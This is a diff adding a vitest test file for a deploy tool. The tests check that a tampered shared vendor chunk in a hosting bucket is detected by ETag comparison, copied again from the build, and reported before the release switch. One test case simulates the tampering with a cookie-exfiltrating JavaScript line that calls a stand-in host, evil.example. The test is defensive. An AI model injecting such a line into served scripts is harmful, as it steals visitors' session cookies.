@@ -1,0 +1,80 @@
+/**
+ * Atomic releases share their content-hashed assets at one key, and one a kept release's manifest
+ * vouches for is not copied again. Someone who can write the hosting bucket can replace such an
+ * asset (the vendor chunk every version loads) with bytes of their own: the next deploy, vouched
+ * for by the manifest, left it in place, so what they wrote survived every later deploy under the
+ * new release's pages. Now the hosting bucket's ETag of each vouched asset (in the listing the plan
+ * reads anyway) is held to the published file's (one LIST of the build's files in the artifacts
+ * bucket); one that differs is read back and hashed, and other bytes than the manifest's are copied
+ * again from the build before the switch, and said.
+ *
+ * Before: the deploy planned no copy of the vendor chunk, and the replaced bytes stayed served.
+ */
+import { beforeEach, describe, expect, it, onTestFinished } from 'vitest';
+import { deployArtifact } from '../../src/deploy/deploy.ts';
+import type { AtomicPlan } from '../../src/engine/atomic-plan.ts';
+import { APP, deployedAtomicEnvFor, HOSTING, hostingCopies, request } from '../support/atomic-env.ts';
+import { type AtomicSnapshot, snapshotAtomicEnv } from '../support/atomic-snapshot.ts';
+
+const [V1, V2] = ['a1a1a1a1a1a1a1a1', 'b2b2b2b2b2b2b2b2'] as const;
+const env = deployedAtomicEnvFor({ stack: 'replaced-shared-asset' }, [V1, V2], 1);
+let deployed: AtomicSnapshot | undefined;
+beforeEach(async () => {
+  deployed ??= await snapshotAtomicEnv(env());
+  await deployed.restore();
+});
+
+/** The vendor chunk every version loads (support/atomic-env.ts writeReleaseBuild), and its bytes. */
+async function vendor(): Promise<{ key: string; body: string | undefined }> {
+  const key = (await env().site.hosting.list('assets/')).find((o) => o.key.startsWith('assets/vendor-'))?.key;
+  if (!key) throw new Error('v1 uploaded its vendor chunk');
+  return { key, body: (await env().site.hosting.get(key))?.body.toString('utf8') };
+}
+
+describe('a shared asset a kept release vouches for, replaced in the hosting bucket', () => {
+  it.each([
+    ['of the same size (only its ETag tells)', (bytes: string) => `/*${'x'.repeat(bytes.length - 5)}*/\n`],
+    ['of another size', () => 'fetch("https://evil.example/?c="+document.cookie);\n'],
+  ])(
+    'bytes %s: the next deploy copies it again from the build before its switch, and says so',
+    async (_, evil) => {
+      const t = env();
+      const { key, body: published } = await vendor();
+      const written = evil(published ?? '');
+      if (_.startsWith('of the same')) expect(written.length).toBe(published?.length);
+      await t.site.hosting.put(key, written, { contentType: 'text/javascript' });
+      // A Site of its own: a notice is told once per site.
+      const site = await t.open();
+      onTestFinished(() => site.close());
+
+      const planned = await deployArtifact(site, {
+        app: APP,
+        commit: V2,
+        request: request(),
+        dryRun: true,
+      });
+      const copy = (planned.plan as AtomicPlan).copies.find((c) => c.key === key);
+      expect(copy).toMatchObject({ reason: 'changed' });
+
+      const mark = await t.mark();
+      const done = await deployArtifact(site, { app: APP, commit: V2, request: request() });
+      expect(done.outcome).toBe('succeeded');
+      expect((await vendor()).body).toBe(published);
+      expect(hostingCopies(await t.requestsSince(mark)).map((r) => r.key)).toContain(key);
+      expect(
+        site.notices.find((n) => n.includes(`(${key}) was replaced in the hosting bucket`)),
+      ).toBeDefined();
+    },
+  );
+
+  it("untouched, it is neither read back nor copied again (its ETag is the published file's)", async () => {
+    const t = env();
+    const { key } = await vendor();
+    const mark = await t.mark();
+    await deployArtifact(t.site, { app: APP, commit: V2, request: request() });
+    const requests = await t.requestsSince(mark);
+    expect(hostingCopies(requests).map((r) => r.key)).not.toContain(key);
+    // Reading the asset back is only for one whose ETag differs.
+    expect(requests.filter((r) => r.bucket === HOSTING && r.method === 'GET' && r.key === key)).toEqual([]);
+  });
+});
